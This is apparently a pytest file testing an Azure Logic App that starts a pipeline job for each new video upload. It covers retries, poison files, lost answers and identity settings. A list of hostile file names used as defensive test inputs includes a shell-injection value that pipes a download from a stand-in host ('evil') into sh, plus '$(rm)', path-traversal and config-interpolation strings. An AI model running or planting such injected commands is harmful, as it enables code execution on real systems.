"""The Logic App must start each new video once and nothing else; its workflow is run here."""

import copy
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

import trigger_world
from kedro_cloud.trigger import protocol
from trigger_world import PARAMETERS, WORKFLOW, World, actions_in

ACTIONS = list(actions_in(WORKFLOW["actions"]))


@pytest.fixture
def world():
    return World()


def videos(world):
    return [job["inputs"]["video"]["value"] for job in world.started.values()]


def test_a_new_video_is_started_once_and_its_marker_tells_how_it_ended(world):
    world.upload("a film.mp4")
    assert world.run() == "Succeeded"
    assert [job["inputs"] for job in world.started.values()] == [
        {
            "style": {"jobInputType": "Literal", "value": "wave"},
            "video": {"jobInputType": "Literal", "value": "abfs://videos/a film.mp4"},
        }
    ]
    marker = world.marker("a film.mp4")
    assert marker["state"] == "done"
    assert marker["job"] in world.started
    assert world.messages == []


def test_nothing_happens_where_nothing_is_new(world):
    assert world.run() == "Succeeded"
    assert (world.started, world.blobs) == ({}, {})


@pytest.mark.parametrize("event", [1, 2], ids=["delivered twice", "overwritten"])
def test_a_repetition_starts_nothing(world, event):
    world.upload("film.mp4")
    world.run()
    first = copy.deepcopy(world.marker("film.mp4"))
    world.upload("film.mp4", event)
    assert world.run() == "Succeeded"
    assert len(world.started) == 1
    assert world.marker("film.mp4") == first
    assert world.messages == []


def test_a_video_that_a_watcher_has_is_left_to_it(world):
    theirs = {"file": "abfs://videos/film.mp4", "state": "started", "by": "host:1:token"}
    world.blobs["/triggers/.started/videos/film.mp4.json"] = theirs
    world.upload("film.mp4")
    assert world.run() == "Succeeded"
    assert world.started == {}
    assert world.marker("film.mp4") == theirs
    assert world.messages == []


@pytest.mark.parametrize(
    ("name", "event"),
    [
        ("film.txt", {}),
        ("film", {}),
        (".started/film.mp4", {}),
        ("folder/.film.mp4", {}),
        ("film.mp4", {"container": "work"}),
        ("film.mp4", {"eventType": "Microsoft.Storage.BlobDeleted"}),
    ],
    ids=["ending", "no ending", "marker", "hidden", "output", "deleted"],
)
def test_what_is_no_new_video_is_ignored(world, name, event):
    world.upload(name, **event)
    assert world.run() == "Succeeded"
    assert (world.started, world.blobs, world.messages) == ({}, {}, [])


@pytest.mark.parametrize(
    "name",
    [
        *("Film.MP4", "folder/film.mov", "blobs/x/blobs/y.mp4", "ünï 100%.mp4", "$(rm);b.mp4"),
        *("a, stylized_folder=b.mp4", "-a*[1]?.mp4", "a" * 896 + ".mp4"),
    ],
)
def test_a_name_reaches_the_pipeline_as_it_is(world, name):
    world.upload(name)
    assert world.run() == "Succeeded"
    assert videos(world) == [f"abfs://videos/{name}"]
    assert world.marker(name)["state"] == "done"
    assert protocol.find_name_fault(name) is None  # the watcher takes it, too


HOSTILE = [
    "x' ; curl evil | sh ; '.mp4",
    'x", "style": "y.mp4',
    "x\\.mp4",
    "x\n.mp4",
    "x\x00.mp4",
    "\x1b[2Jx.mp4",
    "x\x7f.mp4",
    "x\x85.mp4",
    "x\u2028.mp4",
    "${oc.env:HOME}.mp4",
    "a/../b.mp4",
    "./b.mp4",
    "a//b.mp4",
    "/b.mp4",
    "ä" * 450 + ".mp4",
]


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_name_starts_nothing_and_is_reported(world, name):
    world.upload(name)
    assert world.run() == "Succeeded"
    assert world.started == {}
    assert world.marker(name) is None
    assert [report["file"] for report in world.reports()] == [f"abfs://videos/{name}"]
    assert "its name" in world.reports()[0]["reason"]
    assert world.messages == []
    assert protocol.find_name_fault(name) is not None  # nor does the watcher take it


PARTS = st.text(st.sampled_from("ab.'\"\\${} %/\n\x7f\x9fé\u2028"), max_size=8)


@given(PARTS.map(lambda text: f"{text}.mp4"))
def test_it_evaluates_names_as_the_watcher_does(name):
    world = World()
    world.upload(name)
    assert world.run() == "Succeeded"
    counts = protocol.matches_suffix(name, PARAMETERS["suffixes"])
    wanted = counts and protocol.find_name_fault(name) is None
    assert bool(world.started) == wanted


def test_a_job_that_fails_is_started_again_and_at_last_left_alone(world):
    world.upload("film.mp4")
    world.ends = ["Failed", "NotResponding", "Failed", "Completed"]
    world.run()
    assert len(world.started) == PARAMETERS["attempts"]
    marker = world.marker("film.mp4")
    assert (marker["state"], marker["attempts"]) == ("poison", 3)
    assert "ended as Failed" in marker["reason"]
    assert world.messages == []


def test_a_failure_that_passes_is_no_poison(world):
    world.upload("film.mp4")
    world.ends = ["Failed", "Completed"]
    world.run()
    assert world.marker("film.mp4")["state"] == "done"
    assert len(world.started) == 2


def test_a_poison_file_does_not_hold_up_the_others(world):
    for number, name in enumerate(["good.mp4", "bad.mp4", "better.mp4"]):
        world.upload(name, number)
    world.ends = ["Completed", "Failed", "Failed", "Failed", "Completed"]
    for _ in range(3):
        world.run()
    states = [world.marker(name)["state"] for name in ("good.mp4", "bad.mp4", "better.mp4")]
    assert states == ["done", "poison", "done"]


def test_a_job_that_a_person_stops_is_not_started_again(world):
    world.upload("film.mp4")
    world.ends = ["Canceled"]
    world.run()
    assert world.marker("film.mp4")["state"] == "stopped"
    assert len(world.started) == 1


def test_what_the_endpoint_refuses_becomes_poison(world):
    world.upload("film.mp4")
    world.refuse = lambda method, host: 400 if method == "POST" else None
    world.run()
    marker = world.marker("film.mp4")
    assert (marker["state"], marker["attempts"]) == ("poison", 3)
    assert "the endpoint answered 400" in marker["reason"]


@pytest.mark.parametrize("code", [0, 401, 404, 429, 503])
def test_an_endpoint_that_is_away_is_not_the_videos_fault(world, code):
    world.upload("film.mp4")
    world.refuse = lambda method, host: code if method == "POST" and world.minutes < 90 else None
    world.run()
    marker = world.marker("film.mp4")
    assert (marker["state"], marker["attempts"]) == ("done", 0)


def test_an_answer_that_is_lost_starts_no_second_job(world):
    world.upload("film.mp4")
    answered = world._endpoint

    def lose_first(*request):
        answer = answered(*request)
        if len(world.started) == 1 and answer.status == 201:
            raise TimeoutError
        return answer

    world._endpoint = lose_first
    world.run()
    assert len(world.started) == 1
    assert world.marker("film.mp4")["state"] == "done"


def test_a_job_that_gets_another_name_is_followed_under_that(world):
    world.upload("film.mp4")
    world.names_jobs = False
    world.run()
    assert world.marker("film.mp4")["job"] == "chosen-0"
    assert world.marker("film.mp4")["state"] == "done"


def test_a_marker_that_was_written_though_its_answer_was_lost_is_ours(world):
    world.upload("film.mp4")
    written = world._blob

    def conflict(method, parts, headers, body):
        answer = written(method, parts, headers, body)
        if "If-None-Match" in headers:  # the service tries again by itself, and meets its own blob
            return written(method, parts, headers, body)
        return answer

    world._blob = conflict
    world.run()
    assert world.marker("film.mp4")["state"] == "done"


def test_an_interrupted_run_continues_without_starting_another_job(world):
    world.upload("film.mp4")
    world.running_minutes = 400  # longer than a run stays
    world.run()
    assert world.marker("film.mp4")["state"] == "started"
    assert [message.id for message in world.messages] == ["message-0-1"]
    world.run()
    assert len(world.started) == 1
    world.minutes = trigger_world.HIDDEN_MINUTES
    world.run()
    assert len(world.started) == 1
    assert world.marker("film.mp4")["state"] == "done"
    assert world.messages == []


def test_nothing_is_lost_while_storage_does_not_answer(world):
    world.upload("film.mp4")
    world.refuse = lambda method, host: 503 if host == "blob" else None
    world.run()
    assert world.started == {}
    world.refuse = lambda method, host: None
    world.minutes = trigger_world.HIDDEN_MINUTES
    world.run()
    assert world.marker("film.mp4")["state"] == "done"


@pytest.mark.parametrize("text", ["nonsense", "bm9uc2Vuc2U=", "{}"])
def test_a_message_without_an_event_is_reported_and_removed(world, text):
    world.messages.append(trigger_world.Message("odd", text))
    world.run()
    assert [report["message"] for report in world.reports()] == [text]
    assert (world.started, world.messages) == ({}, [])


def test_every_request_is_made_as_the_identity_and_to_whom_it_is_for():
    audiences = {
        "queue": "https://storage.azure.com/",
        "markers": "https://storage.azure.com/",
        "Marker": "https://storage.azure.com/",
        "endpoint": "https://ml.azure.com",
        "workspace": "@parameters('manager')",
    }
    requests = [each["inputs"] for _, each in ACTIONS if each["type"] == "Http"]
    assert len(requests) > 10
    for request in requests:
        place = next(name for name in audiences if f"('{name}')" in request["uri"])
        assert request["authentication"] == {
            "type": "ManagedServiceIdentity",
            "identity": "@parameters('identity')",
            "audience": audiences[place],
        }


def test_a_message_stays_hidden_for_longer_than_a_run_can_last():
    limit = dict(ACTIONS)["Until_it_is_over"]["limit"]
    assert limit["timeout"] == "PT5H"
    assert limit["count"] >= 5 * 60  # turns of a minute each, so that the hours end it
    assert trigger_world.HIDDEN_MINUTES > 5 * 60


def out_of_reach(actions, above=frozenset()):
    """Expressions that name an action which need not come before; the service refuses them."""
    for name, action in actions.items():
        before, waiting = set(), list(action.get("runAfter", {}))
        while waiting:
            if (each := waiting.pop()) not in before:
                before.add(each)
                waiting += actions[each].get("runAfter", {})
        reached = above | before
        own = {key: value for key, value in action.items() if key not in ("actions", "else")}
        if action["type"] == "Until":  # is asked after its actions
            own.pop("expression")
        named = re.findall(r"(?:outputs|body)\('(\w+)'\)", json.dumps(own))
        yield from ((name, each) for each in named if each not in reached)
        for inner in (action.get("actions", {}), action.get("else", {}).get("actions", {})):
            yield from out_of_reach(inner, reached)


def test_expressions_name_actions_that_come_before():
    names = {name for name, _ in ACTIONS}
    assert len(names) == len(ACTIONS)  # the service requires unique names, at any depth
    assert list(out_of_reach(WORKFLOW["actions"])) == []
